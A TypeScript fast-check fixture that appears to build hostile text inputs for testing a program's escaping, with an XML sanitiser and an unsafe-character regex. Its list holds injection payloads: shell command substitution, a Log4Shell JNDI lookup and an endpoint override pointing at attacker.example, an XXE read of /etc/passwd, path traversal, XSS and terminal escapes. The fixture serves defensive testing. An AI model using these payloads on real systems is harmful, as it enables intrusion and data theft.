/** Text that somebody wrote to be read wrongly: by a terminal, a shell, a log, a browser, XML, JSON or this program. */
import fc from 'fast-check';

export const tricks: readonly string[] = [
  "'; touch /tmp/owned; '",
  '$(touch /tmp/owned)',
  'orders --profile admin',
  '$HOME',
  "it's",
  'a;b&c|d>e',
  '`touch /tmp/owned`',
  '\\',
  '--endpoint-url=https://attacker.example',
  '-rf',
  '!!',
  '~',
  '*',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u009b31m',
  '\u202egnp.exe',
  '\u2066\u2069',
  'a\u200bb\ufeff\u00ad',
  'line\r\nSet-Cookie: a=b',
  '{"level":"INFO","message":"forged"}',
  '"}]}\u2028',
  '</Name><Name>owned',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  '<script>alert(1)</script>',
  '$' + '{jndi:ldap://attacker.example/a}',
  '__proto__',
  'constructor',
  '../../etc/passwd',
  '%00%0d%0a%c0%ae',
  'arn:aws:network-firewall:ap-northeast-1:111122223333:firewall/accused',
  'vpce-0123456789abcdef0',
  'vpce-svc-0b2f119acb23c050e',
  'https://attacker.example/?region=us-east-1#',
  '日本語 🙂',
];

export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...tricks) },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.constantFrom(...tricks), fc.constantFrom(...tricks)).map((two) => two.join(' ')),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
);

/** What XML can carry of a text (XML 1.0, 2.2), and so EC2, RDS and Redshift. */
export function asXmlText(text: string): string {
  return text.toWellFormed().replace(/(?![\t\n\r])[\p{Cc}\p{Cn}](?<![\u0080-\u009f])/gu, '');
}

export const hostileXmlText = hostileText.map(asXmlText);

/** Characters that act on a terminal, end a line or are not shown. Line ends are the text form's own. */
export const unsafeInText = /[^\P{Cc}\n]|[\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
